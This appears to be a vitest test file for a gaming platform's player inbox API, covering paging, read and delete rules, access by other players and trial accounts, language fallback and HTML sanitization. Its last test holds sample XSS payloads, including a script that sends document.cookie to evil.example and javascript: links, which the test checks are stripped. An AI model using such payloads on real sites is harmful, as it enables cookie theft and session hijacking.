import { API, OPS_API } from '@palaro/contract';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ACCOUNTS } from '../../db/seed/demo-accounts';
import { DEMO_INBOX } from '../../db/seed/demo-inbox';
import { call, tokenFor, valueOf } from '../../testing/api-client';
import { newPlayer, nextIp, operatorToken, type TestPlayer } from '../../testing/money-fixtures';
import { buildTestApp } from '../../testing/test-app';
import { useTestDatabase } from '../../testing/test-database';
import { deliveriesOf, inboxCalls, inboxTexts } from './inbox-test-kit';

const database = useTestDatabase();
let app: FastifyInstance;
let admin: string;
let support: string;
let calls: ReturnType<typeof inboxCalls>;

beforeAll(async () => {
  app = await buildTestApp(database.connection());
  calls = inboxCalls(app);
  [admin, support] = [await operatorToken(app, 'ops'), await operatorToken(app, 'support')];
});
afterAll(() => app.close());

const toPlayer = (player: TestPlayer) => ({ kind: 'player' as const, username: player.username });

// first in the file: no broadcast has reached the demo accounts yet
describe('demo mode', () => {
  it("seeds the demo player's and agent's messages, newest first, some already read", async () => {
    for (const account of DEMO_ACCOUNTS) {
      const token = await tokenFor(app, account.username, account.password, { ip: nextIp() });
      const demo = DEMO_INBOX.filter((message) => message.to === account.username).sort(
        (a, b) => a.hoursAgo - b.hoursAgo,
      );
      const page = await calls.inbox(token, '', 'TL');
      expect(page.list.map((message) => [message.title, message.read, message.source])).toEqual(
        demo.map((message) => [message.texts.TL.title, message.read, 'operator']),
      );
      expect(await calls.unread(token)).toBe(demo.filter((message) => !message.read).length);
    }
  });
});

describe("a player's inbox", () => {
  it('holds the messages sent to that player only, newest first and paged, each unread until read', async () => {
    const [player, other] = [await newPlayer(app), await newPlayer(app)];
    const first = await calls.sent(support, toPlayer(player));
    const second = await calls.sent(support, { kind: 'player', username: player.username.toUpperCase() });
    const third = await calls.sent(admin, toPlayer(player), inboxTexts({ tagalog: true }));
    await calls.sent(support, toPlayer(other));

    const page = await calls.inbox(player.token);
    expect(page).toMatchObject({ pageNum: 1, totalPages: 1, total: 3 });
    expect(page.list.map((message) => message.id)).toEqual([third.id, second.id, first.id]);
    expect(page.list[0]).toEqual({
      id: third.id,
      source: 'operator',
      title: third.texts.EN?.title,
      content: '<p>Your withdrawal is on its way.</p>',
      read: false,
      sentAt: third.sentAt,
      feedbackId: null,
    });
    const paged = await calls.inbox(player.token, '?pageNo=2&pageSize=2');
    expect(paged).toMatchObject({ pageNum: 2, totalPages: 2, total: 3 });
    expect(paged.list.map((message) => message.id)).toEqual([first.id]);
    expect(await calls.unread(player.token)).toBe(3);
    expect((await calls.inbox(other.token)).total).toBe(1);
  });

  it('marks messages read and unread again, and deletes them, counting only its own live ones', async () => {
    const player = await newPlayer(app);
    const [a, b, c] = [
      await calls.sent(support, toPlayer(player)),
      await calls.sent(support, toPlayer(player)),
      await calls.sent(support, toPlayer(player)),
    ];
    expect(valueOf(await calls.read(player.token, [a.id, b.id, a.id]))).toEqual({ changed: 2 });
    // reading again is fine: they are still the player's messages
    expect(valueOf(await calls.read(player.token, [a.id]))).toEqual({ changed: 1 });
    expect(await calls.unread(player.token)).toBe(1);
    const unreadOnly = await calls.inbox(player.token, '?unread=1');
    expect(unreadOnly.list.map((message) => message.id)).toEqual([c.id]);
    expect((await calls.inbox(player.token)).list.map((message) => [message.id, message.read])).toEqual([
      [c.id, false],
      [b.id, true],
      [a.id, true],
    ]);

    expect(valueOf(await calls.read(player.token, [b.id], false))).toEqual({ changed: 1 });
    expect(await calls.unread(player.token)).toBe(2);

    expect(valueOf(await calls.remove(player.token, [b.id, c.id, 'not-an-id', '99999999999']))).toEqual({
      changed: 2,
    });
    expect((await calls.inbox(player.token)).list.map((message) => message.id)).toEqual([a.id]);
    expect(await calls.unread(player.token)).toBe(0);
    // a deleted message is no longer the player's to read, delete or count
    for (const response of [await calls.read(player.token, [c.id]), await calls.remove(player.token, [c.id])]) {
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject({ success: false, errorCode: 'inbox.unknown' });
    }
  });

  it("answers 404 inbox.unknown for another player's messages and changes nothing of theirs", async () => {
    const [owner, intruder] = [await newPlayer(app), await newPlayer(app)];
    const mine = await calls.sent(support, toPlayer(intruder));
    const theirs = await calls.sent(support, toPlayer(owner));
    const before = await deliveriesOf(app, theirs.id);
    expect(before).toEqual([{ account_id: owner.id, read: false, deleted: false }]);

    for (const response of [
      await calls.read(intruder.token, [theirs.id]),
      await calls.read(intruder.token, [theirs.id], false),
      await calls.remove(intruder.token, [theirs.id]),
      await calls.read(intruder.token, ['abc', '0']),
    ]) {
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject({
        success: false,
        errorCode: 'inbox.unknown',
        message: 'This message is not available',
      });
    }
    // mixed with one of its own: only its own counts and changes
    expect(valueOf(await calls.remove(intruder.token, [theirs.id, mine.id]))).toEqual({ changed: 1 });
    expect(await deliveriesOf(app, theirs.id)).toEqual(before);
    expect((await calls.inbox(owner.token)).list.map((message) => message.id)).toEqual([theirs.id]);
    expect(await calls.unread(owner.token)).toBe(1);
  });

  it('loses a message an operator withdraws, from the list and the unread count', async () => {
    const player = await newPlayer(app);
    const kept = await calls.sent(support, toPlayer(player));
    const withdrawn = await calls.sent(support, toPlayer(player));
    expect(await calls.unread(player.token)).toBe(2);
    valueOf(await calls.retire(admin, withdrawn.id));
    expect((await calls.inbox(player.token)).list.map((message) => message.id)).toEqual([kept.id]);
    expect(await calls.unread(player.token)).toBe(1);
    expect((await calls.read(player.token, [withdrawn.id])).statusCode).toBe(404);
  });

  it("answers in the Language header's language, else in the merchant's default", async () => {
    const player = await newPlayer(app);
    const texts = inboxTexts({ tagalog: true });
    await calls.sent(support, toPlayer(player), texts);
    const inTagalog = (await calls.inbox(player.token, '', 'TL')).list[0];
    expect(inTagalog).toMatchObject({ title: texts.TL?.title, content: texts.TL?.content });
    // Vietnamese is one of the merchant's languages the message has no text in; XX is none of them
    for (const language of ['VI', 'XX', undefined]) {
      expect((await calls.inbox(player.token, '', language)).list[0]).toMatchObject({
        title: texts.EN.title,
        content: texts.EN.content,
      });
    }
  });
});

describe('who may use the inbox', () => {
  it('refuses a trial session every inbox call with member.trial (SPEC free_reject)', async () => {
    const trial = valueOf<{ token: string }>(await call(app, 'POST', API.freeplay, undefined, { ip: nextIp() })).token;
    for (const [method, path, body] of [
      ['GET', API.inbox, undefined],
      ['GET', API.inboxUnread, undefined],
      ['POST', API.inboxRead, { ids: ['1'], read: true }],
      ['POST', API.inboxDelete, { ids: ['1'] }],
    ] as const) {
      const response = await call(app, method, path, body, { token: trial });
      expect({ path, status: response.statusCode }).toEqual({ path, status: 403 });
      expect(response.json()).toMatchObject({
        success: false,
        errorCode: 'member.trial',
        message: 'Please login an actual account to use this function',
      });
      const anonymous = await call(app, method, path, body);
      expect(anonymous.statusCode).toBe(401);
      expect(anonymous.json()).toMatchObject({ errorCode: 'login.not.session' });
    }
  });

  it('never delivers to a trial account, named or in a broadcast', async () => {
    const trial = valueOf<{ token: string; userName: string }>(
      await call(app, 'POST', API.freeplay, undefined, { ip: nextIp() }),
    );
    const named = await calls.send(support, { kind: 'player', username: trial.userName });
    expect(named.statusCode).toBe(404);
    expect(named.json()).toMatchObject({ errorCode: 'inbox.player.unknown', message: 'No such player' });
    const everyone = await calls.sent(admin, { kind: 'all' });
    const { rows } = await app.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM inbox_deliveries d JOIN accounts a ON a.id = d.account_id
        WHERE d.message_id = $1 AND a.member_type = 4`,
      [BigInt(everyone.id)],
    );
    expect(rows[0]?.n).toBe(0);
    expect(everyone.recipients).toBeGreaterThan(0);
  });
});

describe('hostile HTML from an operator', () => {
  const HOSTILE =
    '<p onclick="steal()">Your <b>bonus</b><script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">claim</a><a href="&#106;avascript:alert(2)">x</a>' +
    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>' +
    '<div style="background:url(javascript:alert(5))" onmouseover="alert(6)">Promo</div>' +
    '<svg onload="alert(7)"></svg><a href="/m/rewardCenter">Reward Center</a>';
  const FORBIDDEN = [/<script/i, /onerror/i, /onclick/i, /onload/i, /onmouseover/i, /javascript:/i, /<iframe/i];
  const FORBIDDEN_MORE = [/<style/i, /<svg/i, /style=/i, /evil\.example/i];

  it('is stored, listed and served with none of its scripts, handlers, frames, styles or unsafe links', async () => {
    const player = await newPlayer(app);
    const sent = await calls.sent(support, toPlayer(player), { EN: { title: 'Bonus', content: HOSTILE } });
    const { rows } = await app.db.query<{ texts: { EN: { content: string } } }>(
      'SELECT texts FROM inbox_messages WHERE id = $1',
      [BigInt(sent.id)],
    );
    const listed = valueOf<{ list: { id: string; texts: { EN: { content: string } } }[] }>(
      await call(app, 'GET', `${OPS_API.inbox}?player=${player.username}`, undefined, { token: admin }),
    ).list.find((message) => message.id === sent.id);
    const contents = [
      rows[0]?.texts.EN.content,
      sent.texts.EN?.content,
      listed?.texts.EN.content,
      (await calls.inbox(player.token)).list[0]?.content,
    ];
    for (const content of contents) {
      expect(content).toEqual(expect.any(String));
      for (const pattern of [...FORBIDDEN, ...FORBIDDEN_MORE]) expect(content).not.toMatch(pattern);
      expect(content).toContain('Your <b>bonus</b>');
      expect(content).toContain('<a href="/m/rewardCenter">Reward Center</a>');
      expect(content).toContain('<div>Promo</div>');
    }
  });
});
